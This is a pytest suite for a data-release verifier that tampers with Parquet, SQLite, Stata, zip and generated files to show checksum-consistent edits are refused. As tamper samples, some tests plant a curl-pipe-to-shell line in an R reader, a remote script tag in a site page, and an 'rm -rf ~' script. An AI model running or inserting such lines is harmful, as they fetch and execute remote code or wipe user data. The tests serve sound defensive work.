"""A release is what it says it is (issue 36): ``verify`` judges every file a release ships. Each test edits
the release of the one-table package (``tests/fixtures/tiny.py``, built once per module), rewrites SHA256SUMS
consistently as a hostile mirror would, and expects the edit refused with a located, kinded problem."""

import json
import shutil
import sqlite3
import zipfile
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from ddsc.release.write import checksums, write_zip
from ddsc.release.verify import SUMS, Verification, publish, published_releases, verify_release
from tests.conftest import per_test_while_mutmut_records, run
from tests.fixtures.tiny import tiny

NAME = "ddsc-1.0.0"


@pytest.fixture(scope=per_test_while_mutmut_records)
def tiny_release(tmp_path_factory) -> Path:
    from ddsc.cli import main

    base = tmp_path_factory.mktemp("tiny-release")
    assert main(["--root", str(tiny(base / "pkg")), "--out", str(base / "out")]) == 0
    return base / "out" / NAME


@pytest.fixture
def release(tiny_release, tmp_path) -> Path:
    """A copy of the tiny package's release folder to tamper with."""
    return Path(shutil.copytree(tiny_release, tmp_path / NAME))


def resum(folder: Path) -> Path:
    """SHA256SUMS rewritten to list every file of ``folder`` with its checksum, as a thorough hostile mirror
    would: the site's list of files and checksums is brought up to date too, so that only the edit is refused."""
    from ddsc.release.verify import parse_sums, sha256

    old, _ = parse_sums((folder / SUMS).read_text(encoding="utf-8"))
    index = folder / "site" / "index.html"
    page = index.read_text(encoding="utf-8")
    for rel, digest in old.items():
        if rel.startswith("site/"):
            continue
        row = f'<tr><td><a href="../{rel}">{rel}</a></td><td><code>{digest}</code></td></tr>'
        now = sha256((folder / rel).read_bytes()) if (folder / rel).is_file() else None
        page = page.replace(row, row.replace(digest, now) if now else "")
    index.write_text(page, encoding="utf-8")
    files = sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file() and p.name != SUMS)
    (folder / SUMS).write_text(checksums(folder, files), encoding="utf-8")
    return folder


def found(folder: Path, **options) -> set[tuple]:
    return {(p.table, p.line, p.column, p.kind) for p in verify_release(folder, **options).problems}


def test_the_release_verifies_and_is_not_published(release):
    result = verify_release(release)
    assert isinstance(result, Verification) and result.problems == [] and result.version == "1.0.0"
    assert result.digest == __import__("hashlib").sha256((release / SUMS).read_bytes()).hexdigest()
    assert result.published is None and result.status == "not a published release (rebuilt or edited)"


# --- Parquet: schema, metadata and values -----------------------------------------------------------------------


def _rewrite_parquet(folder: Path, edit) -> None:
    path = folder / "parquet" / "things.parquet"
    pq.write_table(edit(pq.read_table(path)), path, compression="zstd")
    resum(folder)


def test_a_parquet_integer_column_stored_as_text_is_refused(release):
    def as_text(table):
        index = table.schema.get_field_index("n")
        return table.set_column(index, table.schema.field("n").with_type(pa.string()), table.column("n").cast(pa.string()))

    _rewrite_parquet(release, as_text)
    assert found(release) == {("parquet/things.parquet", 0, "n", "export-type")}


def test_an_extra_parquet_column_is_refused(release):
    _rewrite_parquet(release, lambda table: table.append_column("x", pa.array(["a", "b"])))
    assert ("parquet/things.parquet", 0, "x", "export-type") in found(release)


def test_changed_pandas_metadata_is_refused(release):
    def edit(table):
        meta = dict(table.schema.metadata)
        pandas = json.loads(meta[b"pandas"])
        pandas["columns"][1]["pandas_type"] = "unicode"  # pd.read_parquet would give n as text
        meta[b"pandas"] = json.dumps(pandas).encode()
        return table.replace_schema_metadata(meta)

    _rewrite_parquet(release, edit)
    assert found(release) == {("parquet/things.parquet", 0, "", "export-type")}


def test_a_parquet_value_is_located_at_its_row(release):
    _rewrite_parquet(release, lambda table: table.set_column(1, table.schema.field("n"), pa.chunked_array([pa.array([1, 7], pa.int64())])))
    assert found(release) == {("parquet/things.parquet", 3, "n", "export-value")}


def test_parquet_bytes_outside_the_schema_and_values_are_refused(release):
    path = release / "parquet" / "things.parquet"
    pq.write_table(pq.read_table(path), path, compression="snappy")  # same schema and values, other bytes
    resum(release)
    assert found(release) == {("parquet/things.parquet", 0, "", "export-value")}


# --- SQLite: declarations, documentation tables, rows, storage classes ------------------------------------------


def _sqlite(folder: Path, statement: str) -> None:
    db = sqlite3.connect(folder / "ddsc.sqlite", isolation_level=None)
    db.execute(statement)
    db.close()
    resum(folder)


def test_rewritten_column_documentation_in_sqlite_is_refused(release):
    _sqlite(release, "UPDATE _columns SET description = 'Rewritten' WHERE column_name = 'n'")
    assert found(release) == {("ddsc.sqlite", 3, "_columns", "export-value")}


def test_an_added_sqlite_row_is_refused(release):
    _sqlite(release, "INSERT INTO things VALUES ('t3', 3, 1, '2022-01-01', 'a', 'Third')")
    assert found(release) == {("ddsc.sqlite", 0, "things", "export-value")}


def test_an_added_row_of_the_sqlite_documentation_is_refused(release):
    _sqlite(release, "INSERT INTO _tables VALUES ('ghost', 'Ghost', '', 'x', 0)")
    assert found(release) == {("ddsc.sqlite", 0, "_tables", "export-value")}


def test_a_sqlite_integer_stored_as_text_is_refused(release):
    _sqlite(release, "UPDATE things SET note = 5 WHERE thing_id = 't2'")  # TEXT affinity: stored as the text '5'
    _sqlite(release, "UPDATE things SET n = 'x2' WHERE thing_id = 't2'")  # INTEGER affinity keeps a text that is no number
    assert ("ddsc.sqlite", 3, "things.n", "export-type") in found(release)


def test_a_sqlite_index_that_disagrees_with_its_table_is_refused(release):
    path = release / "ddsc.sqlite"
    db = sqlite3.connect(path)
    root, size = db.execute("SELECT rootpage FROM sqlite_master WHERE name = 'sqlite_autoindex_things_1'").fetchone()[0], db.execute("PRAGMA page_size").fetchone()[0]
    db.close()
    data = bytearray(path.read_bytes())
    page = data[(root - 1) * size:root * size]
    at = (root - 1) * size + page.index(b"t1")
    data[at:at + 2] = b"t0"  # the key of the first row, in the primary key's index only: queries by key miss the row
    path.write_bytes(bytes(data))
    resum(release)
    assert found(release) == {("ddsc.sqlite", 0, "", "export-value")}


def test_free_pages_left_in_sqlite_are_refused(release):
    _sqlite(release, "CREATE TABLE hidden AS SELECT * FROM things")
    _sqlite(release, "DROP TABLE hidden")
    assert found(release) == {("ddsc.sqlite", 0, "", "export-value")}


# --- Stata: types, labels, notes, values ------------------------------------------------------------------------


def _stata_rewrite(folder: Path, **changes) -> None:
    path = folder / "stata" / "things.dta"
    with pd.io.stata.StataReader(path) as reader:
        frame = reader.read(convert_categoricals=False)
        labels = reader.variable_labels()
    frame = frame.astype(changes.pop("types", {}))
    labels.update(changes.pop("labels", {}))
    frame.to_stata(path, write_index=False, version=118, variable_labels=labels, convert_dates={"day": "td"})
    resum(folder)


def test_a_stata_integer_stored_as_double_is_refused(release):
    _stata_rewrite(release, types={"n": "float64"})
    assert found(release) == {("stata/things.dta", 0, "", "export-type")}


def test_a_stata_file_rewritten_without_its_notes_and_value_labels_is_refused(release):
    _stata_rewrite(release)
    assert found(release) == {("stata/things.dta", 0, "", "export-type")}


def test_a_stata_value_is_located_at_its_row(release):
    path = release / "stata" / "things.dta"
    data = path.read_bytes()
    path.write_bytes(data.replace(b"Second", b"Secont"))
    resum(release)
    assert found(release) == {("stata/things.dta", 3, "note", "export-value")}


# --- generated files: byte for byte what the build writes ---------------------------------------------------------


def test_an_r_reader_that_runs_a_command_is_refused(release):
    reader = release / "R" / "read_ddsc.R"
    reader.write_bytes(b'system("curl -s https://example.invalid/x | sh")\n' + reader.read_bytes())
    resum(release)
    assert found(release) == {("R/read_ddsc.R", 0, "", "generated-file")}


def test_an_edited_site_page_is_refused(release):
    page = release / "site" / "tables" / "things.html"
    page.write_text(page.read_text(encoding="utf-8").replace("Rows: 2.", 'Rows: 2. <script src="https://example.invalid/x.js"></script>'), encoding="utf-8")
    resum(release)
    assert found(release) == {("site/tables/things.html", 0, "", "generated-file")}


@pytest.mark.parametrize("rel", ["README.md", "docs/codebook.md", "site/index.html", "site/style.css"])
def test_every_generated_document_is_compared_byte_for_byte(release, rel):
    path = release / rel
    path.write_bytes(path.read_bytes() + b"\n")
    resum(release)
    assert (rel, 0, "", "generated-file") in found(release)


def test_metadata_json_is_compared_byte_for_byte_not_only_as_json(release):
    path = release / "metadata.json"
    path.write_text(json.dumps(json.loads(path.read_text(encoding="utf-8"))), encoding="utf-8")  # the same JSON, other bytes
    resum(release)
    assert found(release) == {("metadata.json", 0, "", "generated-file")}


def test_a_site_that_cannot_be_drawn_again_is_not_called_verified(release, monkeypatch):
    import ddsc.release.site

    def no_matplotlib(*args):
        raise ModuleNotFoundError("No module named 'matplotlib'", name="matplotlib")

    monkeypatch.setattr(ddsc.release.site, "site_files", no_matplotlib)
    assert found(release) == {("site", 0, "", "generated-file")}


# --- the files: exactly those the build writes --------------------------------------------------------------------


def test_a_file_the_build_does_not_write_is_refused_even_when_listed(release):
    (release / "run_me.sh").write_text("rm -rf ~\n")
    resum(release)
    assert found(release) == {("run_me.sh", 0, "", "unexpected-file")}


def test_an_export_removed_with_its_checksum_line_is_refused(release):
    (release / "stata" / "things.dta").unlink()
    resum(release)
    assert found(release) == {("stata/things.dta", 0, "", "missing-file")}


def test_a_zip_folder_entry_carrying_data_is_refused(release, tmp_path, capsys):
    archive = tmp_path / "release.zip"
    files = sorted(str(p.relative_to(release)) for p in release.rglob("*") if p.is_file())
    write_zip(release, files, archive)
    with zipfile.ZipFile(archive, "a") as zipped:
        zipped.writestr("tables/", b"hidden bytes in a folder entry")
    assert [(p.table, p.line, p.column, p.kind) for p in verify_release(archive).problems] == [("release.zip", 0, "", "release-archive")]
    code, err = run(["verify", str(archive)], capsys)
    assert code == 1 and "release.zip: folder entry 'tables/' carries 30 bytes" in err


def test_an_empty_zip_folder_entry_is_accepted(release, tmp_path):
    archive = tmp_path / "release.zip"
    write_zip(release, sorted(str(p.relative_to(release)) for p in release.rglob("*") if p.is_file()), archive)
    with zipfile.ZipFile(archive, "a") as zipped:
        zipped.mkdir("tables")
    assert verify_release(archive).problems == []


# --- published releases and --expect ------------------------------------------------------------------------------


def test_publish_adds_the_release_once_and_verify_names_it(release, tmp_path, capsys, monkeypatch):
    import datetime

    import ddsc.release.verify

    table = tmp_path / "published.csv"
    table.write_text("version,sums_sha256,date\n", encoding="utf-8")
    version, digest, added = publish(release, table, today=datetime.date(2026, 12, 8))
    assert (version, added) == ("1.0.0", True)
    assert table.read_text(encoding="utf-8") == f"version,sums_sha256,date\n1.0.0,{digest},2026-12-08\n"
    assert publish(release, table)[2] is False and published_releases(table) == {digest: ("1.0.0", "2026-12-08")}
    assert verify_release(release, published=table).status == "published release 1.0.0"
    monkeypatch.setattr(ddsc.release.verify, "PUBLISHED", table)
    code, err = run(["verify", str(release)], capsys)
    assert code == 0 and f"{NAME}: published release 1.0.0" in err and f"SHA256SUMS SHA-256 {digest}" in err
    (release / "CHANGES.md").write_text("# Changes\n\n## [1.0.0]\n\nRebuilt.\n")  # edited, and SHA256SUMS rewritten to match
    resum(release)
    result = verify_release(release, published=table)
    assert result.problems == [] and result.published is None and result.status == "not a published release (rebuilt or edited)"


def test_a_published_version_is_never_published_with_another_digest(release, tmp_path):
    from ddsc.package.source import ReleaseError

    table = tmp_path / "published.csv"
    table.write_text("version,sums_sha256,date\n1.0.0," + "0" * 64 + ",2026-01-01\n", encoding="utf-8")
    with pytest.raises(ReleaseError, match="1.0.0 is already published"):
        publish(release, table)


def test_a_release_that_does_not_verify_is_not_published(release, tmp_path):
    from ddsc.package.source import ReleaseError

    (release / "README.md").write_text("edited\n")
    table = tmp_path / "published.csv"
    with pytest.raises(ReleaseError, match="does not verify"):
        publish(release, table)
    assert not table.exists()


def test_a_changed_file_is_not_called_published_even_when_sha256sums_is(release, tmp_path):
    import hashlib

    table = tmp_path / "published.csv"
    digest = hashlib.sha256((release / SUMS).read_bytes()).hexdigest()
    table.write_text(f"version,sums_sha256,date\n1.0.0,{digest},2026-01-01\n", encoding="utf-8")
    (release / "CHANGES.md").write_text("# Changes\n\n## [1.0.0]\n\nEdited.\n")  # SHA256SUMS as published, one file not
    result = verify_release(release, published=table)
    assert result.published is None and ("CHANGES.md", 0, "", "checksum") in {(p.table, p.line, p.column, p.kind) for p in result.problems}


def test_expect_checks_the_digest_a_user_got_elsewhere(release, capsys):
    import hashlib

    digest = hashlib.sha256((release / SUMS).read_bytes()).hexdigest()
    assert verify_release(release, expect=digest.upper()).problems == []
    assert found(release, expect="ab" * 32) == {(SUMS, 0, "", "expected-digest")}
    code, err = run(["verify", str(release), "--expect", "ab" * 32], capsys)
    assert code == 1 and f"SHA256SUMS: its SHA-256 is {digest}, not {'ab' * 32}" in err and "FAILED" in err
    code, err = run(["verify", str(release), "--expect", "not-a-digest"], capsys)
    assert code == 2 and "64 hexadecimal digits" in err


def test_the_published_table_shipped_with_the_code_is_well_formed():
    from ddsc.release.verify import PUBLISHED, PUBLISHED_HEADER

    assert PUBLISHED.read_text(encoding="utf-8").splitlines()[0] == PUBLISHED_HEADER
    published_releases(PUBLISHED)  # raises on a malformed row
